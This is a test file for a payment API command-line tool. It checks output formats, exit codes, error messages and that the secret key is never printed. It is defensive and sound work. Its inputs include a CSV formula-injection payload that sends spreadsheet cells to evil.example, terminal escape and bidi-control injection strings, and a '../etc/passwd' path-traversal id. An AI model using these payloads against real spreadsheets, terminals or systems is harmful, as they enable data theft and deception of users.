// The omise-openapi command as a child process: against the partner mock and against a loopback fault
// server; output formats, exit codes, one-line errors, and never the key.
import { spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { execa } from 'execa';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXIT } from '../src/cli/exit-codes.js';
import { CONTROL_CHARACTER } from '../src/runtime/printable.js';
import { startMockServer, type MockServer } from '../src/mock/server.js';
import { CardListServer } from './support/card-list-server.js';
import { CUSTOMER_ID, TRANSACTION_ID, card, cardPage, transaction } from './support/fixtures.js';
import { json, omiseError, resetBeforeHeaders, startServer, type Handler, type LoopbackServer } from './support/loopback-server.js';

const ROOT = fileURLToPath(new URL('..', import.meta.url));
const KEY = 'skey_test_clicanary0123456789';
const CLI = ['--import', 'tsx', 'src/cli/main.ts'];

async function cli(args: string[], env: Record<string, string | undefined> = {}) {
  const result = await execa(process.execPath, [...CLI, ...args], {
    cwd: ROOT,
    reject: false,
    env: { OMISE_SECRET_KEY: KEY, ...env },
    extendEnv: true,
    timeout: 30_000,
  });
  // The key must never be printed, whatever happened.
  expect(result.stdout).not.toContain(KEY);
  expect(result.stderr).not.toContain(KEY);
  expect(result.stderr).not.toContain('clicanary');
  return result;
}

describe('against the partner mock', () => {
  let mock: MockServer;
  beforeAll(async () => {
    mock = await startMockServer({ log: () => undefined });
  });
  afterAll(() => mock.close());

  it('transaction prints JSON when piped', async () => {
    const r = await cli(['--base-url', mock.url, 'transaction', TRANSACTION_ID]);
    expect(r.exitCode).toBe(0);
    expect(JSON.parse(r.stdout)).toMatchObject({ object: 'transaction', id: TRANSACTION_ID, direction: 'credit' });
  });

  it('transaction --format table reads as a table', async () => {
    const r = await cli(['--base-url', mock.url, 'transaction', TRANSACTION_ID, '--format', 'table']);
    expect(r.stdout).toMatch(/^amount\s+960\.94 THB \(96094 minor units\)$/m);
  });

  it('cards --format csv has a header row and one row per card', async () => {
    const r = await cli(['--base-url', mock.url, 'cards', CUSTOMER_ID, '--format', 'csv']);
    expect(r.exitCode).toBe(0);
    const lines = r.stdout.trimEnd().split('\r\n');
    expect(lines[0]?.startsWith('object,id,livemode,location,deleted,brand,last_digits')).toBe(true);
    expect(lines).toHaveLength(4);
  });

  it('cards --all --format json is a JSON array of every card', async () => {
    const r = await cli(['--base-url', mock.url, 'cards', CUSTOMER_ID, '--all']);
    expect(r.exitCode).toBe(0);
    expect((JSON.parse(r.stdout) as Array<{ brand: string }>).map((c) => c.brand)).toEqual(['JCB', 'Visa', 'MasterCard']);
  });

  it('--mock answers from the built-in mock in-process, with no key needed', async () => {
    const r = await cli(['--mock', 'cards', CUSTOMER_ID, '--format', 'table'], { OMISE_SECRET_KEY: undefined });
    expect(r.exitCode).toBe(0);
    expect(r.stdout).toMatch(/^ID\s+BRAND\s+LAST4/);
    expect(r.stdout).toMatch(/3 of 3 cards/);
  });
});

describe('against a loopback fault server', () => {
  let server: LoopbackServer;
  beforeAll(async () => {
    server = await startServer();
  });
  afterAll(() => server.close());
  const run = (handler: Handler, args: string[]) => {
    server.handle(handler);
    return cli(['--base-url', server.url, '--max-retries', '1', '--timeout', '2000', ...args]);
  };

  // The exit code second: the title's %i takes the second value.
  it.each([
    ['404', 4, omiseError(404, 'not_found', 'transaction was not found'), /\[not_found\].*Check the id/],
    ['401', 3, omiseError(401, 'authentication_failure', 'authentication failed'), /\[authentication_failure\].*secret key/],
    ['503', 5, omiseError(503, 'service_unavailable', 'busy'), /\[service_unavailable\].*after 2 attempts.*status\.omise\.co/],
    ['a reset', 5, resetBeforeHeaders, /Could not get an answer/],
    ['a 200 that is not JSON', 1, (_req, res) => res.end('<html>'), /\[invalid_response\]/],
  ] as Array<[string, number, Handler, RegExp]>)('%s: one line on stderr, exit %i', async (_name, code, handler, message) => {
    const r = await run(handler, ['transaction', TRANSACTION_ID]);
    expect(r.exitCode).toBe(code);
    expect(r.stdout).toBe('');
    const lines = r.stderr.trimEnd().split('\n');
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(/^omise-openapi: transaction trxn_test_\w+ failed/);
    expect(lines[0]).toMatch(message);
  });

  it('usage errors exit 2 before any request', async () => {
    const before = server.requests.length;
    for (const args of [['cards'], ['cards', CUSTOMER_ID, '--limit', '500'], ['cards', CUSTOMER_ID, '--limit', 'ten'], ['transaction', '../etc/passwd'], ['refund', 'x']]) {
      expect((await cli(['--base-url', server.url, ...args])).exitCode).toBe(2);
    }
    expect(server.requests.length).toBe(before);
  });

  it('a missing or public key exits 3 with a clear line', async () => {
    const missing = await cli(['--base-url', server.url, 'transaction', TRANSACTION_ID], { OMISE_SECRET_KEY: '' });
    expect(missing.exitCode).toBe(3);
    expect(missing.stderr).toMatch(/No secret key: set OMISE_SECRET_KEY/);
    const pkey = await cli(['--base-url', server.url, 'transaction', TRANSACTION_ID], { OMISE_SECRET_KEY: 'pkey_test_clicanary0123456789' });
    expect(pkey.exitCode).toBe(3);
    expect(pkey.stderr).toMatch(/OMISE_SECRET_KEY holds a public key \(pkey_\.\.\.\): public keys cannot call this API/);
    expect(pkey.stderr).not.toContain('clicanary');
    // Told to a command-line user, not to a program.
    for (const r of [missing, pkey]) expect(r.stderr).not.toMatch(/createOmiseClient|secretKey/);
  });

  it.each([
    ['--base-url', ['--base-url', 'ftp://x'], /--base-url must use https/],
    ['--timeout', ['--timeout', '0'], /--timeout must be a whole number from 1 to \d+\./],
    ['--max-retries', ['--max-retries', '50'], /--max-retries must be a whole number from 0 to 10\./],
    ['--limit with --all', ['cards', CUSTOMER_ID, '--all', '--limit', '500'], /--limit must be a whole number from 1 to 100/],
  ] as Array<[string, string[], RegExp]>)('a value of %s the client refuses: exit 2, told in flags, before any request', async (_name, args, message) => {
    const before = server.requests.length;
    const command = args.includes('cards') ? [] : ['transaction', TRANSACTION_ID];
    const r = await cli(['--base-url', server.url, ...args, ...command]);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toMatch(message);
    expect(r.stderr).not.toMatch(/baseUrl|timeoutMs|maxRetries|pageSize/);
    expect(server.requests.length).toBe(before);
  });

  it.each([
    ['--json with --format', ['transaction', TRANSACTION_ID, '--json', '--format', 'csv'], /'--json' cannot be used with option '--format/],
    ['--all with --offset', ['cards', CUSTOMER_ID, '--all', '--offset', '5'], /'--all' cannot be used with option '--offset/],
    ['--mock with --base-url', ['--mock', 'cards', CUSTOMER_ID], /'--mock' cannot be used with option '--base-url/],
    ['--max-items without --all', ['cards', CUSTOMER_ID, '--max-items', '5'], /--max-items works only with --all/],
    ['--concurrency without --all', ['cards', CUSTOMER_ID, '--concurrency', '2'], /--concurrency works only with --all/],
    ['--csv-raw without --format csv', ['cards', CUSTOMER_ID, '--csv-raw'], /--csv-raw changes CSV output only: add --format csv/],
    ['--csv-raw with --json', ['transaction', TRANSACTION_ID, '--json', '--csv-raw'], /--csv-raw changes CSV output only/],
    ['--from after --to', ['cards', CUSTOMER_ID, '--from', '2024-02-01T00:00:00Z', '--to', '2024-01-01T00:00:00Z'], /--from is later than --to/],
    ['a malformed --from', ['cards', CUSTOMER_ID, '--from', 'yesterday'], /'--from <date-time>' argument 'yesterday' is invalid\. expected an RFC 3339 date-time/],
    ['a date without a time', ['cards', CUSTOMER_ID, '--to', '2024-01-31'], /'--to <date-time>' argument '2024-01-31' is invalid/],
    ['a 13th month', ['cards', CUSTOMER_ID, '--from', '2024-13-01T00:00:00Z'], /argument '2024-13-01T00:00:00Z' is invalid/],
  ] as Array<[string, string[], RegExp]>)('%s: exit 2 with a clear message, before any request', async (_name, args, message) => {
    const before = server.requests.length;
    const r = await cli(['--base-url', server.url, ...args]);
    expect(r.exitCode).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(message);
    expect(server.requests.length).toBe(before);
  });

  it('CSV neutralises cells a spreadsheet would run as formulas (OWASP); --csv-raw writes them as they came', async () => {
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1-2', '@SUM(1)', '-2+3', '\tTAB', '\rCR'];
    // A JSON number is never formula text, negative or not: it stays a number a spreadsheet can sum.
    const cards = names.map((name, i) => ({ ...card(i), name, expiration_month: -1 }));
    server.handle(json(200, { ...cardPage(0, 0, 20), data: cards, total: cards.length }));
    const safe = await cli(['--base-url', server.url, 'cards', CUSTOMER_ID, '--format', 'csv']);
    expect(safe.exitCode).toBe(0);
    // A tab or CR is shown as its escape (no control character reaches the terminal), after the guard.
    for (const cell of ['"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"', '"\'+1-2"', '"\'@SUM(1)"', '"\'-2+3"', '"\'\\x09TAB"', '"\'\\x0dCR"']) {
      expect(safe.stdout).toContain(`,${cell},-1,`);
    }
    const raw = await cli(['--base-url', server.url, 'cards', CUSTOMER_ID, '--format', 'csv', '--csv-raw']);
    expect(raw.exitCode).toBe(0);
    for (const cell of ['"=HYPERLINK(""http://evil.example/?""&A1,""x"")"', '+1-2', '@SUM(1)', '-2+3', '\\x09TAB', '\\x0dCR']) {
      expect(raw.stdout).toContain(`,${cell},-1,`);
    }
    expect(raw.stdout).not.toContain("'");
  });

  it('CSV quotes commas and quotes, and shows a line break in a cell as its escape', async () => {
    const tricky = { ...card(1), name: 'Doe, "Jay"\nJr', city: 'Bang,kok' };
    server.handle(json(200, { ...cardPage(0, 0, 20), data: [tricky], total: 1 }));
    const r = await cli(['--base-url', server.url, 'cards', CUSTOMER_ID, '--format', 'csv']);
    expect(r.stdout).toContain(',"Doe, ""Jay""\\x0aJr",');
    expect(r.stdout).toContain(',"Bang,kok",');
  });

  it('server and cardholder text reaches no terminal raw: escapes, C1 controls and bidi controls are shown escaped in every format', async () => {
    // What a cardholder could type as a name, and a server put in a bank or a transaction key.
    const hostile = '\u001b]0;owned\u0007\u001b[2J\u001b]8;;http://evil.example\u001b\\link\u001b]8;;\u001b\\\u009b31m\u202eRTL\u007f\u2028next\u200b\ufeff';
    const cards = [{ ...card(0), name: hostile, bank: hostile, city: hostile }];
    server.handle(json(200, { ...cardPage(0, 0, 20), data: cards, total: 1 }));
    const structural: Record<string, RegExp> = { table: /\n/g, json: /\n/g, csv: /\r\n/g };
    for (const format of ['table', 'json', 'csv', 'csv-raw']) {
      const args = format === 'csv-raw' ? ['--format', 'csv', '--csv-raw'] : ['--format', format];
      const r = await cli(['--base-url', server.url, 'cards', CUSTOMER_ID, ...args]);
      expect(r.exitCode, r.stderr).toBe(0);
      const body = r.stdout.replace(structural[format.replace('-raw', '')]!, '');
      expect(body, format).not.toMatch(CONTROL_CHARACTER);
      expect(r.stderr, format).not.toMatch(CONTROL_CHARACTER);
    }
    // JSON escapes them as JSON does: the value read back is the value sent.
    const json_ = await cli(['--base-url', server.url, 'cards', CUSTOMER_ID, '--format', 'json']);
    expect((JSON.parse(json_.stdout) as Array<{ name: string }>)[0]?.name).toBe(hostile);
    server.handle(json(200, { ...transaction(), key: hostile, origin: hostile }));
    for (const format of ['table', 'json', 'csv']) {
      const one = await cli(['--base-url', server.url, 'transaction', TRANSACTION_ID, '--format', format]);
      expect(one.stdout.replace(/\r?\n/g, ''), format).not.toMatch(CONTROL_CHARACTER);
      const bulk = await cli(['--base-url', server.url, 'transactions', TRANSACTION_ID, '--format', format]);
      expect(bulk.stdout.replace(/\r?\n/g, ''), format).not.toMatch(CONTROL_CHARACTER);
    }
  });

  it('an answer that breaks the spec (brand null, currency 7, direction 5) still prints as a table, row by row', async () => {
    server.handle(json(200, { ...cardPage(0, 0, 20), data: [{ ...card(0), brand: null, country: 42 }], total: 1 }));
    const cards = await cli(['--base-url', server.url, 'cards', CUSTOMER_ID, '--format', 'table']);
    expect(cards.exitCode, cards.stderr).toBe(0);
    expect(cards.stdout).toContain(' 42 ');
    server.handle(json(200, { ...transaction(), currency: 7, direction: 5 }));
    for (const command of ['transaction', 'transactions']) {
      const r = await cli(['--base-url', server.url, command, TRANSACTION_ID, '--format', 'table']);
      expect(r.exitCode, r.stderr).toBe(0);
      expect(r.stdout).toMatch(/\b5\b/);
    }
  });

  it('a usage error repeats what was typed with its control characters escaped', async () => {
    const r = await cli(['--base-url', server.url, 'cards', CUSTOMER_ID, '--order', 'x\u001b]0;owned\u0007\u009b2J']);
    expect(r.exitCode).toBe(EXIT.usage);
    expect(r.stderr).toContain('x\\x1b]0;owned\\x07\\x9b2J');
    expect(r.stderr.replace(/\n/g, '')).not.toMatch(CONTROL_CHARACTER);
  });

  it('an error message from the server reaches stderr without its control characters', async () => {
    server.handle(omiseError(404, 'not_found', 'no \u001b[2J such \u202e thing \u009b'));
    const r = await cli(['--base-url', server.url, 'transaction', TRANSACTION_ID]);
    expect(r.exitCode).toBe(EXIT.notFound);
    expect(r.stderr.trimEnd()).not.toMatch(CONTROL_CHARACTER);
  });

  it('cards --all over 250 cards, 3 pages at once: every row in order, progress as "n of total"', async () => {
    const list = new CardListServer(250, CUSTOMER_ID);
    server.handle(list.handler);
    const r = await cli(['--base-url', server.url, 'cards', CUSTOMER_ID, '--all', '--concurrency', '3', '--format', 'csv']);
    expect(r.exitCode).toBe(0);
    const rows = r.stdout.trimEnd().split('\r\n');
    expect(rows).toHaveLength(251);
    expect(rows.slice(1).map((row) => row.split(',')[1])).toEqual(list.cards.map((c) => c.id));
    expect(r.stderr).toMatch(/100 of 250 cards/);
    expect(r.stderr).toMatch(/200 of 250 cards/);
  });

  it('cards and cards --all print the same JSON: an array of the card objects the API sent', async () => {
    const list = new CardListServer(5, CUSTOMER_ID);
    server.handle(list.handler);
    const page = await cli(['--base-url', server.url, 'cards', CUSTOMER_ID, '--format', 'json']);
    const all = await cli(['--base-url', server.url, 'cards', CUSTOMER_ID, '--all', '--format', 'json']);
    expect(JSON.parse(page.stdout)).toEqual(list.cards);
    expect(JSON.parse(all.stdout)).toEqual(list.cards);
    expect(page.stdout).toBe(all.stdout);
    expect(page.stdout.split('\n')).toHaveLength(list.cards.length + 2);
    // Every card on this one page: nothing to say on stderr.
    expect(page.stderr).toBe('');
  });

  it('cards, one page of more: JSON holds the cards, stderr tells where the rest are', async () => {
    server.handle(new CardListServer(5, CUSTOMER_ID).handler);
    const r = await cli(['--base-url', server.url, 'cards', CUSTOMER_ID, '--limit', '2', '--format', 'json']);
    expect(r.exitCode).toBe(0);
    expect(JSON.parse(r.stdout)).toHaveLength(2);
    expect(r.stderr).toBe('omise-openapi: 2 of 5 cards (offset 0): --offset 2 for the next page, or --all for every card');
  });

  it('--from and --to go to the API as from and to, with and without --all', async () => {
    // Cards created a second apart from 2024-01-01T00:00:01Z: the window holds the 3rd to the 5th.
    const list = new CardListServer(10, CUSTOMER_ID);
    server.handle(list.handler);
    const window = ['--from', '2024-01-01T00:00:03Z', '--to', '2024-01-01T00:00:05Z'];
    const expected = list.cards.slice(2, 5).map((c) => c.id);
    for (const all of [[], ['--all']]) {
      const before = server.requests.length;
      const r = await cli(['--base-url', server.url, 'cards', CUSTOMER_ID, ...window, ...all, '--format', 'json']);
      expect(r.exitCode).toBe(0);
      expect((JSON.parse(r.stdout) as Array<{ id: string }>).map((c) => c.id)).toEqual(expected);
      const query = server.requests[before]?.query;
      expect([query?.get('from'), query?.get('to')]).toEqual(['2024-01-01T00:00:03Z', '2024-01-01T00:00:05Z']);
    }
  });

  it('the table never cuts silently: American Express whole, a longer value cut with …', async () => {
    const amex = { ...card(1), brand: 'American Express' };
    const longId = `card_test_${'x'.repeat(40)}`;
    server.handle(json(200, { ...cardPage(0, 0, 20), data: [amex, { ...card(2), id: longId }], total: 2 }));
    const r = await cli(['--base-url', server.url, 'cards', CUSTOMER_ID, '--format', 'table']);
    expect(r.exitCode).toBe(0);
    const [header, first, second, footer] = r.stdout.split('\n');
    expect(first).toMatch(/ American Express +4242 /);
    expect(second).toMatch(/^card_test_x+… Visa /);
    expect(second).not.toContain(longId);
    // The columns stay aligned, cut or not.
    expect(first?.indexOf('American')).toBe(header?.indexOf('BRAND'));
    expect(second?.indexOf('Visa')).toBe(header?.indexOf('BRAND'));
    expect(footer).toBe('2 of 2 cards (offset 0)');
  });

  it('counts read right: 1 card, 2 cards, 1 transaction', async () => {
    server.handle(new CardListServer(1, CUSTOMER_ID).handler);
    const one = await cli(['--base-url', server.url, 'cards', CUSTOMER_ID, '--all', '--limit', '1', '--format', 'table']);
    expect(one.stderr).toBe('omise-openapi: 1 of 1 card');
    expect(one.stdout.trimEnd().split('\n').pop()).toBe('1 card');
    const page = await cli(['--base-url', server.url, 'cards', CUSTOMER_ID, '--format', 'table']);
    expect(page.stdout.trimEnd().split('\n').pop()).toBe('1 of 1 card (offset 0)');
    server.handle(new CardListServer(2, CUSTOMER_ID).handler);
    const two = await cli(['--base-url', server.url, 'cards', CUSTOMER_ID, '--all', '--limit', '1', '--format', 'table']);
    expect(two.stderr).toBe('omise-openapi: 1 of 2 cards\nomise-openapi: 2 of 2 cards');
    expect(two.stdout.trimEnd().split('\n').pop()).toBe('2 cards');
    server.handle(json(200, transaction()));
    const trxn = await cli(['--base-url', server.url, 'transactions', TRANSACTION_ID, '--format', 'table']);
    expect(trxn.stdout.trimEnd().split('\n').pop()).toBe('1 transaction, 0 failed');
  });

  describe('a reader that stops early', () => {
    // Answers nothing until `open()`: the test opens it once the reader is gone for sure.
    function gate(): { wait: Promise<void>; open: () => void } {
      let open!: () => void;
      const wait = new Promise<void>((resolve) => (open = resolve));
      return { wait, open };
    }

    it('cards --all | head -1 (a shell pipe): exit 0, nothing on stderr, no further page fetched', async () => {
      const list = new CardListServer(5000, CUSTOMER_ID);
      const headGone = gate();
      server.handle(async (req, res, i) => {
        await headGone.wait;
        await list.handler(req, res, i);
      });
      const before = server.requests.length;
      // pipefail: the pipeline's status is the CLI's. Once head has exited, the group closes its end
      // of the pipe too and says so: from then on nobody reads what the CLI writes.
      const script = 'set -o pipefail; "$@" | { head -1; exec 0<&-; echo HEAD-GONE; }';
      const child = execa('bash', ['-c', script, 'bash', process.execPath, ...CLI, '--base-url', server.url, 'cards', CUSTOMER_ID, '--all', '--format', 'csv'], {
        cwd: ROOT,
        reject: false,
        env: { OMISE_SECRET_KEY: KEY },
        timeout: 30_000,
      });
      let seen = '';
      child.stdout?.on('data', (chunk: Buffer) => {
        seen += chunk.toString();
        if (seen.includes('HEAD-GONE')) headGone.open();
      });
      try {
        const r = await child;
        expect(r.exitCode).toBe(0);
        expect(r.stderr).toBe('');
        const lines = r.stdout.split(/\r?\n/);
        expect(lines).toHaveLength(2);
        expect(lines[0]?.startsWith('object,id,livemode')).toBe(true);
        expect(lines[1]).toBe('HEAD-GONE');
        // 50 pages of 100: the first one, and at most what --concurrency (4) had under way.
        expect(server.requests.length - before).toBeLessThanOrEqual(5);
      } finally {
        headGone.open();
        child.kill();
      }
    });

    it('transactions whose reader hangs up after the first line: the calls stop, exit 0, nothing on stderr', async () => {
      const ids = Array.from({ length: 200 }, (_, i) => `trxn_test_bulk${i}`);
      const hungUp = gate();
      server.handle(async (req, res) => {
        await hungUp.wait;
        const id = req.url?.split('/').pop() ?? '';
        json(200, { ...transaction(), id, location: `/transactions/${id}` })(req, res, 0);
      });
      const before = server.requests.length;
      const child = spawn(process.execPath, [...CLI, '--base-url', server.url, 'transactions', ...ids, '--format', 'csv'], {
        cwd: ROOT,
        env: { ...process.env, OMISE_SECRET_KEY: KEY },
        stdio: ['ignore', 'pipe', 'pipe'],
      });
      try {
        let stderr = '';
        child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
        const exited = new Promise<number | null>((resolve) => child.on('close', (code) => resolve(code)));
        // The header comes before any call; then the reading end is closed, and only then answered.
        let first = '';
        for await (const chunk of child.stdout) {
          first += String(chunk);
          if (first.includes('\n')) break;
        }
        if (!child.stdout.closed) await new Promise((resolve) => child.stdout.once('close', resolve));
        hungUp.open();
        expect(await exited).toBe(0);
        expect(stderr).toBe('');
        expect(first.startsWith('id,status,error,')).toBe(true);
        // Of 200 ids: the calls under way when the pipe closed (--concurrency 4), not the rest.
        expect(server.requests.length - before).toBeLessThanOrEqual(8);
      } finally {
        hungUp.open();
        if (child.exitCode === null && child.signalCode === null) child.kill();
      }
    });
  });

  it('cards --all --max-items stops there', async () => {
    server.handle(new CardListServer(1000, CUSTOMER_ID).handler);
    const r = await cli(['--base-url', server.url, 'cards', CUSTOMER_ID, '--all', '--max-items', '120', '--format', 'json']);
    expect(r.exitCode).toBe(0);
    expect(JSON.parse(r.stdout)).toHaveLength(120);
  });

  describe('transactions (bulk retrieval)', () => {
    const ids = ['trxn_test_aaa1', 'trxn_test_missing', 'trxn_test_aaa2'];
    const byId: Handler = (req, res, i) => {
      const id = req.url?.split('/').pop() ?? '';
      const handler = id.includes('missing') ? omiseError(404, 'not_found', `transaction ${id} was not found`) : json(200, { ...transaction(), id, location: `/transactions/${id}` });
      return handler(req, res, i);
    };

    it('--ids-file: one row per id in order, a status column, exit 6 when some failed', async () => {
      server.handle(byId);
      const dir = mkdtempSync(join(tmpdir(), 'omise-ids-'));
      const file = join(dir, 'ids.txt');
      writeFileSync(file, `# settlement 2024-11-24\n${ids.join('\n')}\n\n`);
      try {
        const r = await cli(['--base-url', server.url, 'transactions', '--ids-file', file, '--format', 'csv']);
        expect(r.exitCode).toBe(6);
        const rows = r.stdout.trimEnd().split('\r\n');
        expect(rows[0]?.startsWith('id,status,error,object,livemode')).toBe(true);
        expect(rows.slice(1).map((row) => row.split(',').slice(0, 2).join(','))).toEqual(['trxn_test_aaa1,ok', 'trxn_test_missing,not_found', 'trxn_test_aaa2,ok']);
        expect(r.stderr).toMatch(/1 of 3 transactions failed/);
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    });

    // Files in a folder of their own, removed whatever happens.
    async function withFile<T>(name: string, content: string | Buffer | null, use: (path: string, dir: string) => Promise<T>): Promise<T> {
      const dir = mkdtempSync(join(tmpdir(), 'omise-ids-'));
      const path = join(dir, name);
      if (content !== null) writeFileSync(path, content);
      try {
        return await use(path, dir);
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    }
    const rowIds = (stdout: string): string[] => (JSON.parse(stdout) as Array<{ id: string }>).map((x) => x.id);

    it('--ids-file with CR-only line ends (Excel for Mac), CRLF and LF mixed: every id on its own row', async () => {
      server.handle(byId);
      await withFile('ids.csv', 'trxn_test_aaa1\rtrxn_test_aaa2\r\ntrxn_test_aaa3\n# note\rtrxn_test_aaa4\r', async (file) => {
        const r = await cli(['--base-url', server.url, 'transactions', '--ids-file', file, '--format', 'json']);
        expect(r.exitCode, r.stderr).toBe(0);
        expect(rowIds(r.stdout)).toEqual(['trxn_test_aaa1', 'trxn_test_aaa2', 'trxn_test_aaa3', 'trxn_test_aaa4']);
      });
    });

    it('--ids-file is streamed: 60 MB of blank lines runs in a 32 MB heap, with no request and no row', async () => {
      const before = server.requests.length;
      await withFile('blank.txt', Buffer.alloc(60 * 1024 * 1024, 0x0a), async (file) => {
        const r = await cli(['--base-url', server.url, 'transactions', '--ids-file', file, '--format', 'json'], { NODE_OPTIONS: '--max-old-space-size=32' });
        expect(r.exitCode, r.stderr.slice(0, 500)).toBe(0);
        expect(JSON.parse(r.stdout)).toEqual([]);
      });
      expect(server.requests.length).toBe(before);
    });

    it('--ids-file with a line no id could fill (8 MB without a line end): a usage error naming the line', async () => {
      await withFile('one-line.txt', `trxn_test_aaa1\n${'x'.repeat(8 * 1024 * 1024)}`, async (file) => {
        const r = await cli(['--base-url', server.url, 'transactions', '--ids-file', file]);
        expect(r.exitCode).toBe(EXIT.usage);
        expect(r.stderr).toMatch(/line 2 of .* is longer than 1024 characters/);
      });
    });

    it('--ids-file naming a directory or no file: a usage error (2), not a crash', async () => {
      await withFile('missing.txt', null, async (file, dir) => {
        const folder = await cli(['--base-url', server.url, 'transactions', '--ids-file', dir]);
        expect(folder.exitCode).toBe(EXIT.usage);
        expect(folder.stderr).toMatch(/--ids-file .* is a directory/);
        const missing = await cli(['--base-url', server.url, 'transactions', '--ids-file', file]);
        expect(missing.exitCode).toBe(EXIT.usage);
        expect(missing.stderr).toMatch(/--ids-file .* does not exist/);
      });
    });

    it("an answer for another id is never printed on this id's row: the row says invalid_response, exit 6", async () => {
      // A mixed-up cache: every id is answered with the transaction of the other.
      server.handle((req, res, i) => {
        const asked = req.url?.split('/').pop() ?? '';
        const other = asked === 'trxn_test_aaa1' ? 'trxn_test_aaa2' : 'trxn_test_aaa1';
        return json(200, { ...transaction(), id: other, location: `/transactions/${other}` })(req, res, i);
      });
      const r = await cli(['--base-url', server.url, 'transactions', 'trxn_test_aaa1', 'trxn_test_aaa2', '--format', 'csv']);
      expect(r.exitCode).toBe(EXIT.partial);
      const rows = r.stdout.trimEnd().split('\r\n').slice(1);
      expect(rows.map((row) => row.split(',').slice(0, 2).join(','))).toEqual(['trxn_test_aaa1,invalid_response', 'trxn_test_aaa2,invalid_response']);
      // No transaction field was written on either row.
      expect(rows.every((row) => !row.includes(',transaction,'))).toBe(true);
    });

    it('--mock with 100 000 ids: memory stays bounded (it kept about 1.9 KB a call until the batch ended: 577 MB)', async () => {
      await withFile('ids.txt', Array.from({ length: 100_000 }, (_, i) => (i % 2 ? `trxn_test_missing${i}` : TRANSACTION_ID)).join('\n'), async (file, dir) => {
        const rssFile = join(dir, 'max-rss');
        const r = await execa(process.execPath, ['--import', './test/support/max-rss.mjs', ...CLI, '--mock', 'transactions', '--ids-file', file, '--format', 'csv'], {
          cwd: ROOT,
          reject: false,
          env: { MAX_RSS_FILE: rssFile },
          timeout: 120_000,
        });
        expect(r.exitCode, r.stderr.slice(-500)).toBe(EXIT.partial);
        expect(r.stdout.trimEnd().split('\r\n')).toHaveLength(100_001);
        // The built CLI peaks at 112 MB on Node 22 and 123 MB on Node 24, 158 MB on Node 20 (its V8
        // lets garbage grow further before a full collection); tsx adds about 35 MB. Far below 577.
        expect(Number(readFileSync(rssFile, 'utf8')) / 1024).toBeLessThan(300);
      });
    }, 180_000);

    it('ids on standard input, JSON out, exit 0 when all succeed', async () => {
      server.handle(byId);
      const r = await execa(process.execPath, ['--import', 'tsx', 'src/cli/main.ts', '--base-url', server.url, 'transactions', '--format', 'json'], {
        cwd: ROOT,
        reject: false,
        env: { OMISE_SECRET_KEY: KEY },
        input: 'trxn_test_aaa1\ntrxn_test_aaa2\n',
      });
      expect(r.exitCode).toBe(0);
      expect((JSON.parse(r.stdout) as Array<{ id: string; status: string }>).map((x) => [x.id, x.status])).toEqual([
        ['trxn_test_aaa1', 'ok'],
        ['trxn_test_aaa2', 'ok'],
      ]);
    });

    it('a malformed id anywhere: exit 2 before any request', async () => {
      const before = server.requests.length;
      const r = await cli(['--base-url', server.url, 'transactions', 'trxn_test_aaa1', 'chrg_test_nope']);
      expect(r.exitCode).toBe(2);
      expect(r.stderr).toMatch(/transactionIds\[1\]/);
      expect(server.requests.length).toBe(before);
    });
  });
});

describe('--help', () => {
  // Help text wraps at the terminal's width: compare with white space folded.
  const help = async (args: string[]) => {
    const r = await cli(args);
    expect(r.exitCode).toBe(0);
    return r.stdout;
  };
  const folded = (text: string) => text.replace(/\s+/g, ' ');

  it('shows the default of every option that takes a value', async () => {
    // Today's commands, and those generated from the spec (transactions alone is a group: its default is retrieve-many).
    for (const command of [[], ['transaction'], ['cards'], ['transactions', 'retrieve-many'], ['customers', 'list-cards'], ['customers', 'list-all-cards'], ['transactions', 'retrieve']]) {
      const text = await help([...command, '--help']);
      const options = text.slice(text.indexOf('Options:'), text.indexOf('Exit codes:'));
      // One entry per option: a line that starts with the flags, and its wrapped lines.
      const entries = options.split(/\n(?= {2}-)/).slice(1);
      expect(entries.length).toBeGreaterThan(1);
      for (const entry of entries.filter((e) => /^ {2}-[^\n]*</.test(e))) expect(folded(entry)).toMatch(/\(.*default: [^)]+\)/);
    }
    expect(folded(await help(['--help']))).toMatch(/--base-url <url> API base URL \(default: https:\/\/api\.omise\.co\).*--timeout <ms> .*\(default: 60000\).*--max-retries <n> .*\(default: 2\)/);
    const cards = folded(await help(['cards', '--help']));
    for (const shown of ['(default: 20; with --all, cards per request, default: 100)', '(default: 0)', '(default: chronological)', '(default: 4)', '(default: now)', 'default: table on a terminal, json when piped']) {
      expect(cards).toContain(shown);
    }
  });

  it('lists the exit codes, from the one table of them', async () => {
    for (const command of [[], ['cards']]) {
      const text = await help([...command, '--help']);
      const section = text.slice(text.indexOf('\nExit codes:\n'));
      expect(section.length).toBeGreaterThan(0);
      for (const code of Object.values(EXIT)) expect(section).toMatch(new RegExp(`^ {2}${code} {2}\\S`, 'm'));
    }
  });
});

it('json transaction output equals what the API sent', async () => {
  const server = await startServer(json(200, transaction()));
  try {
    const r = await cli(['--base-url', server.url, 'transaction', TRANSACTION_ID, '--json']);
    expect(JSON.parse(r.stdout)).toEqual(transaction());
  } finally {
    await server.close();
  }
});
